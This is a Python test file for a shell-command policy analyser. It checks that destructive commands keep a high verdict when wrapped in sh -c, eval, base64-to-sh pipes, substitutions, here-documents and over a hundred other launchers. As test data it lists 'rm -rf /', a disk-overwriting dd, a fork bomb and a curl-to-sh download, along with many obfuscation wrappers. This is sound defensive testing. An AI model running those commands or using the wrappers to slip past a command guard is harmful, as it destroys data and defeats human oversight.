"""A verdict is never lower when a command is wrapped in another one that runs it."""

import base64
from collections.abc import Callable
from functools import cache

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from tests.tiers import examples

from ostler.policy.shell import analyse

RANK = {"ordinary": 0, "confirm": 1, "deny": 2}
EXISTING = {"/w", "/w/.", "/w/notes.txt", "/w/a.txt", "/w/b.txt", "/w/src", "/w/src/.", "/w/src/main.py"}

COMMANDS = [
    "rm notes.txt",
    "rm -rf /",
    "mv a.txt b.txt",
    "chmod 777 notes.txt",
    "dd if=a.txt of=/dev/sda",
    "sudo ls",
    "shutdown -h now",
    "echo hi > notes.txt",
    "cat a.txt >| 'notes.txt'",
    "> notes.txt",
    "cp a.txt notes.txt",
    "sed -i 's/a/b/' notes.txt",
    'sed "s/a/b/w notes.txt" a.txt',
    "find . -name '*.txt' -delete",
    "git checkout -- .",
    "git -c core.pager='rm x' log",
    "python3 -c \"import os; os.remove('notes.txt')\"",
    "perl -e 'unlink \"notes.txt\"'",
    "awk '{print > \"notes.txt\"}' a.txt",
    "tee notes.txt < a.txt",
    "X=rm; $X notes.txt",
    "curl -s https://example.com | sh",
    ":(){ :|:& };:",
    "eval \"$(echo 'rm notes.txt')\"",
    "ls",
    "echo 'rm notes.txt'",
]


def quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def double(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace("`", "\\`")
    return f'"{escaped}"'


def backticks(text: str) -> str:
    return "`" + text.replace("\\", "\\\\").replace("`", "\\`").replace("$", "\\$") + "`"


def ansi(text: str) -> str:
    return "$'" + "".join(f"\\x{byte:02x}" for byte in text.encode()) + "'"


def awk_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


CONTEXTS: dict[str, Callable[[str], str]] = {
    "sh -c": lambda c: f"sh -c {quote(c)}",
    "sh -c double": lambda c: f"sh -c {double(c)}",
    "bash -lc": lambda c: f"bash -lc {quote(c)}",
    "bash -c ansi": lambda c: f"bash -c {ansi(c)}",
    "sh -c sh -c": lambda c: f"sh -c {quote('sh -c ' + quote(c))}",
    "path to sh": lambda c: f"/bin/sh -c {quote(c)}",
    "busybox sh": lambda c: f"busybox sh -c {quote(c)}",
    "env sh": lambda c: f"env X=1 sh -c {quote(c)}",
    "env -S": lambda c: f"env -S {quote('sh -c ' + quote(c))}",
    "nohup": lambda c: f"nohup sh -c {quote(c)} &",
    "timeout": lambda c: f"timeout -k 1 5 sh -c {quote(c)}",
    "nice": lambda c: f"nice -n 5 sh -c {quote(c)}",
    "setsid stdbuf": lambda c: f"setsid stdbuf -o L sh -c {quote(c)}",
    "flock": lambda c: f"flock /tmp/l -c {quote(c)}",
    "script": lambda c: f"script -qc {quote(c)} /dev/null",
    "watch": lambda c: f"watch -n 1 {quote(c)}",
    "command": lambda c: f"command sh -c {quote(c)}",
    "exec": lambda c: f"exec sh -c {quote(c)}",
    "eval": lambda c: f"eval {quote(c)}",
    "eval double": lambda c: f"eval {double(c)}",
    "eval variable": lambda c: f'c={quote(c)}; eval "$c"',
    "sh variable": lambda c: f'c={quote(c)}; sh -c "$c"',
    "trap": lambda c: f"trap {quote(c)} EXIT",
    "subshell": lambda c: f"({c}\n)",
    "subshell lines": lambda c: f"(\n{c}\n)",
    "group": lambda c: f"{{ {c}\n}}",
    "and": lambda c: f"true && {{ {c}\n}}",
    "or": lambda c: f"false || {{ {c}\n}}",
    "semicolon": lambda c: f"ls; {c}",
    "newline": lambda c: f"ls\n{c}",
    "after comment": lambda c: f"ls # it's fine\n{c}",
    "before": lambda c: f"{c}\nls",
    "background": lambda c: f"ls & {c}",
    "pipe": lambda c: f"ls | {{ {c}\n}}",
    "into a pipe": lambda c: f"{{ {c}\n}} | cat",
    "not": lambda c: f"! {{ {c}\n}}",
    "time": lambda c: f"time {{ {c}\n}}",
    "coproc": lambda c: f"coproc {{ {c}\n}}",
    "if condition": lambda c: f"if {c}\nthen ls; fi",
    "if body": lambda c: f"if true; then\n{c}\nfi",
    "else": lambda c: f"if ls; then ls; else\n{c}\nfi",
    "while": lambda c: f"while true; do\n{c}\nbreak; done",
    "until": lambda c: f"until\n{c}\ndo ls; done",
    "for": lambda c: f"for i in 1 2; do\n{c}\ndone",
    "for each": lambda c: f"for ((i=0;i<1;i++)); do\n{c}\ndone",
    "case": lambda c: f"case x in x)\n{c}\n;; esac",
    "function": lambda c: f"f() {{\n{c}\n}}; f",
    "function uncalled": lambda c: f"f() {{\n{c}\n}}",
    "function keyword": lambda c: f"function f {{\n{c}\n}}\nf",
    "shadowing": lambda c: f"ls() {{\n{c}\n}}; ls",
    "substitution": lambda c: f"echo $({c}\n)",
    "quoted substitution": lambda c: f'echo "a $({c}\n) b"',
    "backticks": lambda c: f"echo {backticks(c)}",
    "assignment": lambda c: f"x=$({c}\n)",
    "default value": lambda c: f"echo ${{x:-$({c}\n)}}",
    "arithmetic": lambda c: f"echo $((1 + $({c}\n)))",
    "index": lambda c: f"echo ${{a[$({c}\n)]}}",
    "array": lambda c: f"a=(1 $({c}\n))",
    "test": lambda c: f"[[ -n $({c}\n) ]]",
    "bracket": lambda c: f'[ -n "$({c}\n)" ]',
    "process substitution": lambda c: f"cat <({c}\n)",
    "output substitution": lambda c: f"ls > >({c}\n)",
    "here-document": lambda c: f"cat <<E{len(c)}\n$({c}\n)\nE{len(c)}",
    "here-string": lambda c: f'cat <<< "$({c}\n)"',
    "fed by here-document": lambda c: f"sh <<'E{len(c)}'\n{c}\nE{len(c)}",
    "fed by here-string": lambda c: f"bash <<< {quote(c)}",
    "fed by echo": lambda c: f"echo {quote(c)} | sh",
    "fed by printf": lambda c: f"printf %s {quote(c)} | bash -s",
    "fed by base64": lambda c: f"echo {encoded(c)} | base64 -d | sh",
    "source": lambda c: f"source /dev/stdin <<< {quote(c)}",
    "source substitution": lambda c: f". <(printf '%s\\n' {quote(c)})",
    "written and run": lambda c: f"printf '%s\\n' {quote(c)} > /tmp/new.sh; sh /tmp/new.sh",
    "xargs": lambda c: f"echo x | xargs -I{{}} sh -c {quote(c)}",
    "find -exec": lambda c: f"find . -maxdepth 0 -exec sh -c {quote(c)} \\;",
    "parallel": lambda c: f"parallel ::: {quote(c)}",
    "make": lambda c: f"make --eval={quote('x:;' + c.replace('$', '$$'))} x",
    "awk": lambda c: f"awk {quote('BEGIN{system(' + awk_string(c) + ')}')}",
    "python": lambda c: f"python3 -c {quote('import os; os.system(' + repr(c) + ')')}",
    "alias": lambda c: f"shopt -s expand_aliases\nalias x={quote(c)}\nx",
    "prompt command": lambda c: f"PROMPT_COMMAND={quote(c)}",
    "pager": lambda c: f"GIT_PAGER={quote(c)} git log",
    "git alias": lambda c: f"git -c alias.x={quote('!' + c)} x",
    "nix-shell": lambda c: f"nix-shell --run {quote(c)}",
    "nix develop": lambda c: f"nix develop -c sh -c {quote(c)}",
    "guix": lambda c: f"guix shell -- sh -c {quote(c)}",
    "fzf": lambda c: f"fzf --preview {quote(c)}",
    "uv run": lambda c: f"uv run -- sh -c {quote(c)}",
    "npm exec": lambda c: f"npm exec -c {quote(c)}",
    "mise": lambda c: f"mise exec node@20 -- sh -c {quote(c)}",
    "tox": lambda c: f"tox exec -- sh -c {quote(c)}",
    "systemd-run": lambda c: f"systemd-run --user --wait sh -c {quote(c)}",
    "strace": lambda c: f"strace -f -e trace=file sh -c {quote(c)}",
    "ltrace": lambda c: f"ltrace -S sh -c {quote(c)}",
    "perf": lambda c: f"perf stat -- sh -c {quote(c)}",
    "entr": lambda c: f"ls | entr -s {quote(c)}",
    "hyperfine": lambda c: f"hyperfine {quote(c)}",
    "nodemon": lambda c: f"nodemon --exec {quote(c)}",
    "tmux": lambda c: f"tmux new-session -d {quote(c)}",
    "docker": lambda c: f"docker run --rm alpine sh -c {quote(c)}",
    "kubectl": lambda c: f"kubectl exec web -- sh -c {quote(c)}",
    "unknown program": lambda c: f"some-wrapper --quiet sh -c {quote(c)}",
    "unknown program with --": lambda c: f"some-wrapper run -- bash -c {quote(c)}",
    "env -S with more": lambda c: f"env -S bash -c {quote(c)}",
    "rcfile": lambda c: f"bash --rcfile <(printf '%s\\n' {quote(c)}) -i",
    "ipython": lambda c: f"ipython -c {quote('import os; os.system(' + repr(c) + ')')}",
    "python module": lambda c: f"python3 -m code <<< {quote('import os; os.system(' + repr(c) + ')')}",
    "any command variable": lambda c: f"SOME_PASSWORD_COMMAND={quote(c)} ls",
}
NEUTRAL = {  # the context itself may need approval, also for harmless commands
    "fed by base64", "git alias", "default value", "arithmetic", "index", "output substitution", "exec", "alias",
    "unknown program", "unknown program with --",
}  # fmt: skip


@cache
def verdict(line: str) -> str:
    return analyse(line, cwd="/w", exists=EXISTING.__contains__).verdict


def lowest_rank(command: str, context: str) -> int:
    """Return the lowest acceptable rank of a command in a context. In some contexts the command is unknown."""
    rank = RANK[verdict(command)]
    is_hidden = context == "fed by base64" or (context == "make" and ";" in command)
    return min(rank, 1) if is_hidden else rank


@pytest.mark.req("SH-5")
@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.sampled(every=3)
def test_verdict_is_not_lower_in_a_context(context):
    lowered = [
        (command, wrapped)
        for command in COMMANDS
        if RANK[verdict(wrapped := CONTEXTS[context](command))] < lowest_rank(command, context)
    ]
    assert lowered == []


@pytest.mark.req("SH-5")
@given(command=st.sampled_from(COMMANDS), outer=st.sampled_from(list(CONTEXTS)), inner=st.sampled_from(list(CONTEXTS)))
@examples(200)
def test_verdict_is_not_lower_in_two_contexts(command, outer, inner):
    once = CONTEXTS[inner](command)
    assume(outer != "make" or "\n" not in once)  # a recipe has one line
    wrapped = CONTEXTS[outer](once)
    assert RANK[verdict(wrapped)] >= min(lowest_rank(command, inner), lowest_rank(command, outer)), wrapped


@pytest.mark.req("SH-5")
@pytest.mark.parametrize("context", sorted(set(CONTEXTS) - NEUTRAL))
def test_harmless_commands_stay_ordinary(context):
    assert [verdict(CONTEXTS[context](command)) for command in ("ls", "echo 'rm notes.txt'")] == ["ordinary"] * 2


@pytest.mark.req("SH-5")
@pytest.mark.parametrize("context", sorted(set(CONTEXTS) - {"uv run", "docker"}))  # they run the project's own programs
@pytest.mark.sampled(every=3)
def test_unknown_programs_need_approval_in_every_context(context):
    assert verdict(CONTEXTS[context]("frobnicate x")) == "confirm"


def test_there_are_enough_contexts():
    assert len(CONTEXTS) >= 100
